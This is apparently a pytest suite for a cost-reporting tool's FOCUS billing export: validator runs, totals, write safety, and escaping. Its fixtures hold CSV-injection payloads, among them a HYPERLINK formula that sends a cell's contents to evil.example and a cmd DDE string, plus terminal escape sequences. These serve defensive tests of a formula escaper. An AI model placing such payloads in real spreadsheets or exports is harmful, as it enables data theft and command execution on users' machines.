"""`dims report --focus`: the month's costs as FOCUS 1.2 rows (1.0 on request) that the FinOps
Foundation's own validator accepts, and whose dollars are the report's to the cent.

Two validators, each in its own venv made by tools/focus-validator.sh from its pins (`make
test` sets them up): PyPI `focus-validator` 2.2.1 (FOCUS 1.2, Python 3.12+, numpy 2 pinned
over its declared numpy<2: tools/focus-validator-2.txt) checks the default file, and 1.0.0
(FOCUS 1.0, Python 3.11: tools/focus-validator.txt) the `--focus-version 1.0` file. Each runs
as a subprocess over the file dims wrote, in a temporary working folder (both read their
currency list relative to it; 2.2.1 writes its log there), and every failed rule fails the
test, except those `SET_ASIDE` names with the specification's text that they contradict.

2.2.1 is run with the applicability criteria that hold for dims (`CRITERIA`), so the rules of
the columns those bring in (ResourceName, SubAccountName, Tags, SkuPriceDetails, …) are
checked too, not skipped. Its results are flat (one per rule); the rule model beside it says
how they combine: a rule that is one branch of an OR (InvoiceId: null when there is no
invoice, OR not null when there is one) fails only when its OR fails, and an AND fails
only through a child that fails.

1.0.0's "1.0" rule set names five columns by their pre-1.0 IDs (see `VALIDATOR_SPELLINGS`),
so it is shown the same file with those columns under its names.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import fleet_math as fm
import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from cli_in_process import run
from focus_rows import focus_rows
from repo import ROOT

from dims import _escape as escape
from dims import _reports as reports

VALIDATOR_1_0 = ROOT / ".venv" / "focus-validator"
VALIDATOR = ROOT / ".venv" / "focus-validator-2"
#: What dims supports of the criteria focus-validator 2.2.1 asks about: workspaces are sub
#: accounts; a deployment is a provisioned resource with a type and tags; the price sheet is
#: public, in unit prices; the billing account has a name. Not: regions, zones, capacity
#: reservations, commitments, negotiated prices, measured usage, other currencies.
CRITERIA = (
    "ACCOUNT_NAMING_SUPPORTED",
    "BILLING_BASED_ON_PROVISIONED_RESOURCES_SUPPORTED",
    "PUBLIC_PRICE_LIST_SUPPORTED",
    "RESOURCE_TYPE_ASSIGNMENT_SUPPORTED",
    "SUB_ACCOUNT_SUPPORTED",
    "TAGGING_SUPPORTED",
    "UNIT_PRICING_SUPPORTED",
)
#: Rules of 2.2.1 set aside, each where the validator contradicts the specification, with the
#: specification's text. It checks "StringHandling" as ASCII only; FOCUS 1.2's StringHandling
#: attribute says the opposite, and the names it checks are the user's: dims writes them as
#: they are (its own text, ChargeDescription, it writes in ASCII: that breaks nothing).
STRING_HANDLING = (
    "FOCUS 1.2, StringHandling (StringHandling-A-001-M): 'String values MUST be valid Unicode "
    "strings.'; (A-003-M): 'String values MUST maintain the original casing, spacing, and "
    "other relevant consistency factors as specified by providers and end-users.' The "
    "validator's FormatString holds them to ASCII ('^[\\x00-\\x7F]*$')."
)
SET_ASIDE: dict[str, str] = {
    f"{column}-C-002-M": STRING_HANDLING
    for column in ("ResourceName", "SubAccountId", "SubAccountName", "SkuId", "SkuPriceId")
}
#: The columns focus-validator 1.0.0's "1.0" rules read under other names: FOCUS 1.0 (the
#: specification's v1.0 tag, specification/columns/*.md "Column ID") names them ResourceId,
#: ProviderName, PublisherName and InvoiceIssuerName, and calls 0.5's ChargeType
#: ChargeCategory. The validator's rules ResourceID_*, Provider_*, Publisher_*,
#: InvoiceIssuer_* and SkuPriceId_Nullable (which reads ChargeType) would otherwise fail on
#: a correct file, and check nothing: under its names they check the file's values.
VALIDATOR_SPELLINGS = {
    "ResourceId": "ResourceID",
    "ProviderName": "Provider",
    "PublisherName": "Publisher",
    "InvoiceIssuerName": "InvoiceIssuer",
}
VALIDATOR_COPIES = {"ChargeType": "ChargeCategory"}


def _validator_python(venv: Path) -> Path:
    python = venv / "bin" / "python"
    if not python.exists():
        reason = f"{venv} is missing: `make venv` (tools/focus-validator.sh) makes it"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    return python


def _as_the_validator_reads(path: Path, work: Path) -> Path:
    """`path` copied into `work` with the columns under 1.0.0's spellings."""
    target = work / f"focus{path.suffix}"
    if path.suffix == ".csv":
        with path.open(newline="", encoding="utf-8") as source:
            rows = list(csv.reader(source))
        header = rows[0]
        copied = [header.index(of) for of in VALIDATOR_COPIES.values()]
        with target.open("w", newline="", encoding="utf-8") as out:
            writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
            writer.writerow([VALIDATOR_SPELLINGS.get(n, n) for n in header] + [*VALIDATOR_COPIES])
            for row in rows[1:]:
                writer.writerow(row + [row[at] for at in copied])
        return target
    table = pq.read_table(path)
    table = table.rename_columns([VALIDATOR_SPELLINGS.get(n, n) for n in table.column_names])
    for name, of in VALIDATOR_COPIES.items():
        table = table.append_column(name, table[of])
    pq.write_table(table, target)
    return target


def _results(work: Path) -> tuple[list[ET.Element], dict[str, str]]:
    """The validator's test cases in `work`/results.xml, and rule -> message of the broken."""
    cases = ET.parse(work / "results.xml").getroot().findall(".//testcase")
    broken = {}
    for case in cases:
        rule = case.get("name", "").split(" :: ")[0]
        for problem in [*case.findall("failure"), *case.findall("error")]:
            broken[rule] = problem.get("message") or problem.text or ""
    return cases, broken


def validate_1_0(path: Path, work: Path) -> dict[str, str]:
    """The FOCUS 1.0 rules focus-validator 1.0.0 finds broken in `path`: rule -> message."""
    python = _validator_python(VALIDATOR_1_0)
    work.mkdir()
    (codes,) = VALIDATOR_1_0.glob(
        "lib/python*/site-packages/focus_validator/utils/currency_codes.csv"
    )
    (work / "focus_validator" / "utils").mkdir(parents=True)
    shutil.copy(codes, work / "focus_validator" / "utils" / codes.name)
    data = _as_the_validator_reads(path, work)
    done = subprocess.run(
        [str(python), "-m", "focus_validator.main", "--data-file", data.name,
         "--validate-version", "1.0", "--output-type", "unittest",
         "--output-destination", "results.xml"],
        cwd=work, capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    cases, broken = _results(work)
    assert len(cases) > 100, f"the validator ran {len(cases)} rules: {done.stdout[-2000:]}"
    return broken


def _model(site: Path) -> dict[str, Any]:
    (model,) = site.glob("focus_validator/rules/model-1.2*.json")
    rules: dict[str, Any] = json.loads(model.read_text(encoding="utf-8"))["ModelRules"]
    return rules


def _children(requirement: dict[str, Any]) -> list[str]:
    return [
        item["ModelRuleId"]
        for item in requirement.get("Items", [])
        if item.get("CheckFunction") == "CheckModelRule"
    ]


def judged(broken: dict[str, str], rules: dict[str, Any]) -> dict[str, str]:
    """The failed rules that fail the file: not those `SET_ASIDE`, not a branch of an OR
    that holds (the OR is the rule), and an AND only through a child that fails."""
    failing = {r: why for r, why in broken.items() if r not in SET_ASIDE}
    ors = {}
    for rule, spec in rules.items():
        requirement = spec.get("ValidationCriteria", {}).get("Requirement", {})
        if requirement.get("CheckFunction") == "OR":
            ors.update(dict.fromkeys(_children(requirement), rule))
    failing = {r: w for r, w in failing.items() if r not in ors or ors[r] in failing}
    changed = True
    while changed:  # an AND whose failed children are all excused holds
        changed = False
        for rule in list(failing):
            requirement = rules.get(rule, {}).get("ValidationCriteria", {}).get("Requirement", {})
            children = _children(requirement)
            whole = len(children) == len(requirement.get("Items", []))  # rules, no own check
            is_and = requirement.get("CheckFunction") == "AND" and children and whole
            if is_and and not set(children) & set(failing):
                del failing[rule]
                changed = True
    return failing


def validate(path: Path, work: Path) -> dict[str, str]:
    """The FOCUS 1.2 rules focus-validator 2.2.1 finds broken in `path` (`judged`)."""
    python = _validator_python(VALIDATOR)
    work.mkdir()
    (site,) = VALIDATOR.glob("lib/python*/site-packages")
    (work / "focus_validator" / "rules").mkdir(parents=True)
    codes = site / "focus_validator" / "rules" / "currency_codes.csv"
    shutil.copy(codes, work / "focus_validator" / "rules" / codes.name)
    done = subprocess.run(
        [str(python), "-m", "focus_validator.main", "--data-file", str(path),
         "--validate-version", "1.2", "--block-download",
         "--applicability-criteria", ",".join(CRITERIA),
         "--output-type", "unittest", "--output-destination", "results.xml"],
        cwd=work, capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    cases, broken = _results(work)
    ran = [c for c in cases if not c.findall("skipped")]
    assert len(ran) > 150, f"the validator ran {len(ran)} rules: {done.stdout[-2000:]}"
    return judged(broken, _model(site))


def test_the_rows_sum_to_the_report_to_the_cent(fleet, snap) -> None:
    export = reports.focus_table(snap)
    table = export.table.to_pandas()
    totals = reports.fleet_totals(snap)
    want = fm.fleet_cost(fleet.deployments, "cost_request_max_scale_usd_month")
    assert round(table["EffectiveCost"].sum(), 2) == totals["cost_request_max_scale_usd_month"]
    assert round(table["EffectiveCost"].sum(), 2) == round(want, 2)
    for column in ("BilledCost", "ListCost", "ContractedCost"):
        assert table[column].equals(table["EffectiveCost"]), column
    per = table.groupby("ResourceId")["EffectiveCost"].sum()
    costs = reports.cost_by_deployment(snap).set_index("deployment_id")
    priced = costs[costs["unpriced_reason"].isna()]
    assert sorted(per.index) == sorted(priced.index)
    for deployment, cost in priced["cost_request_max_scale_usd_month"].items():
        assert round(per[deployment], 2) == round(cost, 2), deployment
    parts = table[["x_CpuCost", "x_MemoryCost", "x_StorageCost"]].sum(axis=1)
    assert parts.to_numpy() == pytest.approx(table["EffectiveCost"].to_numpy(), rel=1e-12)
    unit = table["ListUnitPrice"] * table["PricingQuantity"]
    assert unit.to_numpy() == pytest.approx(table["ListCost"].to_numpy(), rel=1e-12)


def test_unpriced_deployments_are_left_out_and_counted_never_zero(fleet, snap) -> None:
    export = reports.focus_table(snap)
    states = {r["id"]: fm.status(r) for r in fleet.deployments}
    unpriced = {i for i, s in states.items() if s["unpriced_reason"] is not None}
    assert unpriced, "the fleet has unpriced deployments to leave out"
    shown = set(export.table.column("ResourceId").to_pylist())
    assert not shown & unpriced
    assert export.deployments == len(fleet.deployments) - len(unpriced)
    reasons: dict[str, int] = {}
    for deployment in unpriced:
        reason = states[deployment]["unpriced_reason"]
        reasons[reason] = reasons.get(reason, 0) + 1
    assert export.left_out == reasons
    assert export.summary()["deployments_left_out"] == len(unpriced)


def test_on_the_limits_basis_unbounded_deployments_are_left_out_too(snap) -> None:
    export = reports.focus_table(snap, basis="limit", scale="min")
    totals = reports.fleet_totals(snap)
    assert round(export.effective_cost, 2) == totals["cost_limit_min_scale_usd_month"]
    assert export.left_out["limits_unbounded"] == totals["deployments_unbounded"]
    assert sum(export.left_out.values()) == (
        totals["deployments_unbounded"] + totals["deployments_unpriced"]
    )
    assert set(export.table.column("x_CostBasis").to_pylist()) == {"limit"}
    assert set(export.table.column("x_CostScale").to_pylist()) == {"min"}


def test_each_row_is_a_deployments_component_with_its_labels_as_tags(fleet, snap) -> None:
    table = reports.focus_table(snap).table.to_pandas()
    assert not table.duplicated(["ResourceId", "x_Component"]).any()
    components = {"main", "queue", "orchestrator", "executor", "cache", "db", "sidecars_init"}
    assert set(table["x_Component"]) <= components
    by_id = {r["id"]: r for r in fleet.deployments}
    labelled = 0
    for row in table.drop_duplicates("ResourceId").itertuples():
        record = by_id[row.ResourceId]
        tags = json.loads(row.Tags)
        labels = fm.resource_spec(record).get("labels") or {}
        for key, value in labels.items():  # text as it is (other JSON types: as JSON text)
            if isinstance(value, str | type(None)):
                assert tags[key] == value, (row.ResourceId, key)
            else:
                assert json.loads(tags[key]) == value, (row.ResourceId, key)
        labelled += bool(labels)
        assert tags["dims/deployment_type"] == fleet.deployment_types[row.ResourceId]
        assert row.ResourceName == record["name"]
        assert row.ResourceType == "Deployment"
    assert labelled > 0
    db = table[table["x_Component"] == "db"]
    assert set(db["ServiceCategory"]) == {"Databases"}
    assert set(table.loc[table["x_Component"] != "db", "ServiceCategory"]) == {"Compute"}


def test_the_period_is_the_calendar_month_of_the_snapshot(snap, dataset_date) -> None:
    table = reports.focus_table(snap).table
    day = dataset_date  # 2025-06-02
    assert day.startswith("2025-06")
    for name in ("BillingPeriodStart", "ChargePeriodStart"):
        assert {v.isoformat() for v in table[name].to_pylist()} == {"2025-06-01T00:00:00+00:00"}
    for name in ("BillingPeriodEnd", "ChargePeriodEnd"):
        assert {v.isoformat() for v in table[name].to_pylist()} == {"2025-07-01T00:00:00+00:00"}
    assert set(table["PricingQuantity"].to_pylist()) == {reports.HOURS_PER_MONTH}


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_the_focus_validator_accepts_the_file(snap, tmp_path, suffix) -> None:
    path = reports.write_focus(reports.focus_table(snap), tmp_path / f"costs{suffix}")
    assert validate(path, tmp_path / "work") == {}


@pytest.mark.parametrize("version", reports.FOCUS_VERSIONS)
def test_the_validator_run_finds_a_broken_file(snap, tmp_path, version) -> None:
    """The harness is not vacuous: a currency FOCUS does not know and a null cost fail, in
    either validator (and `judged` excuses neither)."""
    table = reports.focus_table(snap, version=version).table
    table = table.set_column(
        table.column_names.index("BillingCurrency"),
        "BillingCurrency",
        pa.array(["DOLLARS"] * table.num_rows),
    )
    costs = table["EffectiveCost"].to_pylist()
    table = table.set_column(
        table.column_names.index("EffectiveCost"),
        "EffectiveCost",
        pa.array([None, *costs[1:]], pa.float64()),
    )
    pq.write_table(table, tmp_path / "broken.parquet")
    if version == "1.0":
        broken = validate_1_0(tmp_path / "broken.parquet", tmp_path / "work")
        assert {"BillingCurrency_IsCurrencyCode", "EffectiveCost_NotNull"} <= set(broken)
    else:
        broken = validate(tmp_path / "broken.parquet", tmp_path / "work")
        assert {"BillingCurrency-C-003-M", "EffectiveCost-C-003-M"} <= set(broken), broken


def test_dims_report_focus_writes_the_file_and_says_what_it_left_out(
    dataset, tmp_path, capsys
) -> None:
    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / "costs.parquet"
    code, printed, err = run(capsys, "report", "--out", str(out), "--focus", str(target))
    assert code == 0, err
    line = next(line for line in printed.splitlines() if line.startswith("FOCUS 1.2"))
    totals = reports.fleet_totals(reports.load_snapshot(out))
    assert f"${totals['cost_request_max_scale_usd_month']:,.2f}" in line
    assert f"{totals['deployments_unpriced']:,} deployments left out" in line
    written = pq.read_table(target)
    assert written.schema.metadata[b"focus_version"] == b"1.2"
    code, printed, err = run(
        capsys, "report", "--out", str(out), "--focus", str(tmp_path / "c.csv"),
        "--focus-basis", "limit-max", "--json",
    )  # fmt: skip
    assert code == 0, err
    focus = json.loads(printed)["focus"]
    assert focus["basis"] == "limit" and focus["scale"] == "max"
    assert focus["effective_cost_usd"] == totals["cost_limit_max_scale_usd_month"]
    assert focus["file"] == str((tmp_path / "c.csv").resolve())
    assert pacsv.read_csv(tmp_path / "c.csv").num_rows == focus["rows"]


@pytest.mark.parametrize("name", ["costs.json", "s3://bucket/costs.parquet", "costs"])
def test_a_focus_file_of_no_known_format_is_a_usage_error(dataset, tmp_path, capsys, name):
    code, printed, err = run(capsys, "report", "--out", str(dataset), "--focus", name)
    assert code == 2
    assert err.count("\n") == 1 and "--focus" in err and ".parquet or .csv" in err
    assert printed == ""


def test_a_failed_write_leaves_the_earlier_file_whole(snap, tmp_path, monkeypatch) -> None:
    target = tmp_path / "costs.parquet"
    export = reports.focus_table(snap)
    reports.write_focus(export, target)
    before = target.read_bytes()

    def half_then_fail(table: pa.Table, where: object, **kwargs: object) -> None:
        Path(str(where)).write_bytes(b"PAR1 half a file")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pq, "write_table", half_then_fail)
    with pytest.raises(OSError, match="No space"):
        reports.write_focus(reports.focus_table(snap, scale="min"), target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["costs.parquet"]


def test_a_focus_file_in_a_missing_folder_writes_nothing(dataset, tmp_path, capsys) -> None:
    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / "missing" / "costs.parquet"
    code, _, err = run(capsys, "report", "--out", str(out), "--focus", str(target))
    assert code == 1
    assert err.count("\n") == 1 and "does not exist" in err
    assert not (out / "reports").exists()


# -- off the path: text that attacks a spreadsheet, records without optional objects ---------


#: Cells a spreadsheet would run (OWASP's CSV injection: =, +, -, @, a tab or CR first).
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/"&A1,"open")',
    "k8s_namespace": "+cmd|' /C calc'!A0",
    "deployment_type": "-2+3",
    "image_version": "@SUM(1+1)",
    "tenant_id": "\t=1+1",
    "label": "\r=1+1",
}


@pytest.fixture(scope="module")
def formulas(tmp_path_factory, fleet) -> Path:
    """Three deployments whose text starts as formulas do, among plain ones."""
    out = tmp_path_factory.mktemp("formulas")
    records = copy.deepcopy(fleet.deployments[:12])
    types = {r["id"]: fleet.deployment_types[r["id"]] for r in records}
    for record in records[:3]:
        record["name"] = FORMULAS["name"]
        record["source_config"]["listener_config"] = {"k8s_namespace": FORMULAS["k8s_namespace"]}
        record["tenant_id"] = FORMULAS["tenant_id"]
        fm.resource_spec(record)["labels"] = {"team": FORMULAS["label"]}
        types[record["id"]] = FORMULAS["deployment_type"]
    fm.export_fleet(records, types, out, "2025-06-02")
    return out


def test_a_csv_cell_that_starts_as_a_formula_is_prefixed_and_parquet_keeps_it(
    formulas, tmp_path, capsys
) -> None:
    for suffix in (".csv", ".parquet"):
        code, _, err = run(
            capsys, "report", "--out", str(formulas), "--focus", str(tmp_path / f"bill{suffix}")
        )
        assert code == 0, err
    with (tmp_path / "bill.csv").open(newline="", encoding="utf-8") as source:
        rows = list(csv.DictReader(source))
    parquet = pq.read_table(tmp_path / "bill.parquet").to_pylist()
    assert len(rows) == len(parquet)
    columns = {
        "ResourceName": "name",
        "x_Namespace": "k8s_namespace",
        "x_DeploymentType": "deployment_type",
        "x_WorkspaceId": "tenant_id",
        "SubAccountId": "tenant_id",
    }
    for column, field in columns.items():
        attacked = [r[column] for r in rows if r[column].lstrip("'") == FORMULAS[field]]
        assert attacked and set(attacked) == {"'" + FORMULAS[field]}, column
        assert FORMULAS[field] in {r[column] for r in parquet}, column  # as it is
    # no text cell of the CSV starts as a formula
    text = [f.name for f in pq.read_schema(tmp_path / "bill.parquet") if f.type == pa.string()]
    for row in rows:
        for column in text:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
    # the plain rows are untouched, in both
    plain = [r for r in rows if r["ResourceName"] != "'" + FORMULAS["name"]]
    assert plain and all(not r["ResourceName"].startswith("'") for r in plain)
    assert validate(tmp_path / "bill.csv", tmp_path / "work") == {}


def test_escape_csv_cell_is_owasps_rule() -> None:
    from dims._escape import csv_cell

    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{lead}1+1") == f"'{lead}1+1"
    for plain in ("", "team", " =1", "'=1", "a=1", "1-2", '{"dims/type": "-1"}'):
        assert csv_cell(plain) == plain


@pytest.mark.parametrize("missing", ["listener_config_null", "no_listener_config", "no_tenant_id"])
@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_a_deployment_without_an_optional_object_is_billed(
    fleet, tmp_path, capsys, missing, suffix
) -> None:
    records = copy.deepcopy(fleet.deployments[:6])
    types = {r["id"]: fleet.deployment_types[r["id"]] for r in records}
    odd = next(r for r in records if fm.status(r)["unpriced_reason"] is None)
    if missing == "listener_config_null":
        odd["source_config"]["listener_config"] = None
    elif missing == "no_listener_config":
        del odd["source_config"]["listener_config"]
    else:
        del odd["tenant_id"]
    fm.export_fleet(records, types, tmp_path / "data", "2025-06-02")
    target = tmp_path / f"bill{suffix}"
    code, _, err = run(capsys, "report", "--out", str(tmp_path / "data"), "--focus", str(target))
    assert code == 0 and err == "", err
    table = pq.read_table(target) if suffix == ".parquet" else pacsv.read_csv(target)
    mine = [r for r in table.to_pylist() if r["ResourceId"] == odd["id"]]
    assert mine and all(r["EffectiveCost"] > 0 for r in mine)
    column = "x_Namespace" if "listener" in missing else "x_WorkspaceId"
    assert {r[column] for r in mine} in ({None}, {""})  # null (CSV: empty), never "nan"
    tags = json.loads(mine[0]["Tags"])
    assert ("dims/k8s_namespace" if "listener" in missing else "dims/workspace") not in tags
    assert validate(target, tmp_path / "work") == {}


def test_a_focus_file_that_is_a_folder_is_one_line_naming_it(dataset, tmp_path, capsys) -> None:
    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / "bill.csv"
    target.mkdir()
    code, printed, err = run(capsys, "report", "--out", str(out), "--focus", str(target))
    assert code == 1 and printed == ""
    assert err.count("\n") == 1 and str(target) in err and ".tmp" not in err
    assert list(target.iterdir()) == [] and not list(tmp_path.glob(".bill.csv*"))
    assert not (out / "reports").exists()


def test_a_focus_write_that_fails_names_the_users_file(snap, tmp_path, monkeypatch) -> None:
    def refuse(table: pa.Table, where: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied", str(where))

    monkeypatch.setattr(pq, "write_table", refuse)
    target = tmp_path / "costs.parquet"
    with pytest.raises(PermissionError) as raised:
        reports.write_focus(reports.focus_table(snap), target)
    assert raised.value.filename == str(target)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_a_fleet_nothing_of_which_is_priced_gets_an_empty_bill(tmp_path, capsys, suffix) -> None:
    """Every deployment unpriced (no resource_spec): the bill has no row, its columns and
    (Parquet) its FOCUS version and basis, and the report says what it left out; it was an
    IndexError traceback writing the Parquet file (issue 35's property tests found it)."""
    records = [{"id": f"6f1c2b8e-0000-4000-8000-00000000000{n}"} for n in (1, 2)]
    fm.export_fleet(records, {r["id"]: "prod" for r in records}, tmp_path / "data", "2025-06-02")
    target = tmp_path / f"bill{suffix}"
    code, printed, err = run(
        capsys, "report", "--out", str(tmp_path / "data"), "--focus", str(target), "--json"
    )
    assert code == 0 and err == "", err
    focus = json.loads(printed)["focus"]
    assert focus["rows"] == 0 and focus["deployments_left_out"] == 2
    table = pq.read_table(target) if suffix == ".parquet" else pacsv.read_csv(target)
    assert table.num_rows == 0 and "EffectiveCost" in table.column_names
    if suffix == ".parquet":
        assert table.schema.metadata[b"dims_focus_basis"] == b"request"
        assert table.schema.metadata[b"focus_version"] == b"1.2"


UNITS = (("cpu", "cores"), ("memory", "gib"))


@pytest.mark.parametrize("basis", ["request-min", "request-max", "limit-min", "limit-max"])
def test_the_quantities_follow_the_focus_basis_and_scale(dataset, fleet, tmp_path, capsys, basis):
    """`x_CpuCores` and `x_MemoryGiB` are the quantities the row's cost is made of: at the
    scale (and on the basis) `--focus-basis` names, the raw fleet's own figures per
    deployment, and × rate × hours each row's CPU and memory cost."""
    out = tmp_path / "data"
    shutil.copytree(dataset, out)
    target = tmp_path / "costs.parquet"
    code, _, err = run(
        capsys, "report", "--out", str(out), "--focus", str(target), "--focus-basis", basis
    )
    assert code == 0, err
    table = pq.read_table(target).to_pandas()
    kind, scale = basis.split("-")
    assert set(table["x_CostScale"]) == {scale} and set(table["x_CostBasis"]) == {kind}
    per = table.groupby("ResourceId")[["x_CpuCores", "x_MemoryGiB"]].sum()
    records = {r["id"]: r for r in fleet.deployments}
    for deployment, row in per.iterrows():
        want = fm.totals(records[deployment])
        cores, gib = (want[f"{r}_{kind}_{u}_{scale}_scale"] for r, u in UNITS)
        assert row["x_CpuCores"] == pytest.approx(cores, rel=1e-9), deployment
        assert row["x_MemoryGiB"] == pytest.approx(gib, rel=1e-9), deployment
    hours = table["x_HoursPerMonth"]
    cpu = table["x_CpuCores"] * table["x_CpuCoreHour"] * hours
    memory = table["x_MemoryGiB"] * table["x_MemoryGiBHour"] * hours
    assert cpu.to_numpy() == pytest.approx(table["x_CpuCost"].to_numpy(), rel=1e-9)
    assert memory.to_numpy() == pytest.approx(table["x_MemoryCost"].to_numpy(), rel=1e-9)


# -- FOCUS 1.2 and 1.0, and the Arrow builder held to the row-by-row one ---------------------


#: Text that breaks a naive builder: quotes and backslashes (JSON), control characters,
#: letters with marks and of other scripts (ASCII), a label that claims a `dims/` key.
HOSTILE = {
    "name": 'Caf\u00e9 "q" \\ back\nline \u4e2d\u6587 \U0001f600 \u1e9b\u0323',
    "k8s_namespace": "ns-\u00fc\x1b[31m",
    "deployment_type": "t\u00ebst",
    "tenant_id": "\u0422\u0435\u043d\u0430\u043d\u0442",
    "labels": {
        'k"e\\y': 'v"a\\l\x1b]52;c;AAAA\x07\u2028',
        "dims/deployment_type": "mine",
        "\u00fcn\u00ef": None,
        "count": 3,
        "on": True,
        "": "",
    },
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, fleet) -> Path:
    """A fleet whose text is `HOSTILE` in some deployments, missing in others (no
    listener_config, no tenant_id, no name, an empty type), among plain ones."""
    out = tmp_path_factory.mktemp("hostile")
    records = copy.deepcopy(fleet.deployments[:40])
    types = {r["id"]: fleet.deployment_types[r["id"]] for r in records}
    priced = [r for r in records if fm.status(r)["unpriced_reason"] is None]
    for record in priced[:4]:
        record["name"] = HOSTILE["name"]
        record["source_config"]["listener_config"] = {"k8s_namespace": HOSTILE["k8s_namespace"]}
        record["tenant_id"] = HOSTILE["tenant_id"]
        fm.resource_spec(record)["labels"] = dict(HOSTILE["labels"])
        types[record["id"]] = HOSTILE["deployment_type"]
    del priced[4]["source_config"]["listener_config"]
    del priced[5]["tenant_id"]
    priced[6]["source_config"]["listener_config"] = None
    del priced[7]["name"]
    types[priced[8]["id"]] = ""
    fm.export_fleet(records, types, out, "2025-06-02")
    return out


#: The 1.2 columns whose text is not 1.0's, by FOCUS 1.2's rules: ChargeDescription in ASCII,
#: one ServiceCategory and one ServiceSubcategory per ServiceName, and SubAccountName not
#: null where SubAccountId is not (the workspace's id: the service names it no other way).
CHANGED_IN_1_2 = {"ChargeDescription", "ServiceName", "SubAccountName"}


@pytest.mark.parametrize("which", ["fleet", "hostile", "formulas"])
def test_the_arrow_columns_are_the_row_by_row_bill(request, which, dataset) -> None:
    """Every column of the Arrow builder equals the row-by-row builder's (tests/focus_rows.py,
    one Python object per row: how the bill was made before): all of 1.0, and of 1.2 each
    column 1.0 has but `CHANGED_IN_1_2`, on fleets with hostile and missing text."""
    source = dataset if which == "fleet" else request.getfixturevalue(which)
    snap = reports.load_snapshot(source)
    for basis, scale in (("request", "max"), ("limit", "min")):
        want = focus_rows(snap, basis=basis, scale=scale)
        assert want.num_rows > 0
        got = reports.focus_table(snap, basis=basis, scale=scale, version="1.0").table
        assert got.schema == want.schema
        for name in want.column_names:
            assert got[name].equals(want[name]), (which, basis, name)
        new = reports.focus_table(snap, basis=basis, scale=scale).table
        for name in set(want.column_names) - CHANGED_IN_1_2:
            assert new[name].equals(want[name]), (which, basis, name)
        # 1.2's ChargeDescription: 1.0's facts in ASCII, then the basis in words
        for old, text, replicas in zip(
            want["ChargeDescription"].to_pylist(),
            new["ChargeDescription"].to_pylist(),
            new["x_Replicas"].to_pylist(),
            strict=True,
        ):
            head, _, _ = old.partition(f": {basis}s at {scale} scale, ")
            rest = f"{replicas} replica{'s' if replicas != 1 else ''}, a month"
            words = reports.FOCUS_BASIS_WORDS[basis, scale].split(":")[0]  # the short form
            assert text == escape.ascii_text(f"{head}, {rest}: an estimate on {words}")


def test_hostile_tags_are_json_of_the_labels_as_they_are(hostile) -> None:
    table = reports.focus_table(reports.load_snapshot(hostile)).table.to_pylist()
    mine = [r for r in table if r["ResourceName"] == HOSTILE["name"]]
    assert mine
    for row in mine:
        tags = json.loads(row["Tags"])
        want = {k: v if v is None or isinstance(v, str) else json.dumps(v)
                for k, v in HOSTILE["labels"].items()}  # fmt: skip
        want["dims/k8s_namespace"] = HOSTILE["k8s_namespace"]
        want["dims/workspace"] = HOSTILE["tenant_id"]
        assert tags == want  # the label claiming dims/deployment_type wins: it is the user's
        assert list(tags) == sorted(tags)
        assert row["ChargeDescription"].isascii() and row["ChargeDescription"].isprintable()
        assert "Cafe" in row["ChargeDescription"] and "\\u4e2d" in row["ChargeDescription"]


def test_the_1_2_bill_says_its_basis_and_keeps_1_2s_service_rules(snap) -> None:
    for basis, scale in (("request", "max"), ("request", "min"), ("limit", "max")):
        table = reports.focus_table(snap, basis=basis, scale=scale).table.to_pandas()
        words = reports.FOCUS_BASIS_WORDS[basis, scale]
        assert set(table["x_CostBasisDescription"]) == {words}
        short = words.split(":")[0]  # the row says the case; x_CostBasisDescription all of it
        assert table["ChargeDescription"].str.endswith(f"an estimate on {short}").all()
        assert (table["x_CostBasis"] == basis).all() and (table["x_CostScale"] == scale).all()
        by_service = table.groupby("ServiceName")[["ServiceCategory", "ServiceSubcategory"]]
        assert (by_service.nunique() == 1).all().all()
        db = table["x_Component"] == "db"
        assert set(table.loc[db, "ServiceCategory"]) == {"Databases"}
        assert set(table.loc[~db, "ServiceCategory"]) == {"Compute"}
        assert table["InvoiceId"].isna().all()
        assert table["SubAccountName"].equals(table["SubAccountId"])
        assert (table["PricingCurrency"] == table["BillingCurrency"]).all()
        assert table["PricingCurrencyEffectiveCost"].equals(table["EffectiveCost"])
        details = table["SkuPriceDetails"].map(json.loads)
        assert [d["x_CpuCoreHour"] for d in details] == table["x_CpuCoreHour"].tolist()
        hours = table["x_HoursPerMonth"]
        storage = details.map(lambda d: d["x_StorageGiBHour"]) * hours
        assert storage.to_numpy() == pytest.approx(table["x_StorageGiBMonth"].to_numpy())
    worst = reports.FOCUS_BASIS_WORDS["request", "max"]
    assert "worst case" in worst and "max scale" in worst


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_the_hostile_1_2_bill_passes_the_validator(hostile, tmp_path, capsys, suffix) -> None:
    """Only the rules `SET_ASIDE` names (ASCII names, against the spec) fail on it."""
    target = tmp_path / f"bill{suffix}"
    code, _, err = run(capsys, "report", "--out", str(hostile), "--focus", str(target))
    assert code == 0, err
    assert validate(target, tmp_path / "work") == {}


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_focus_version_1_0_writes_the_file_focus_validator_1_accepts(
    dataset, tmp_path, capsys, suffix
) -> None:
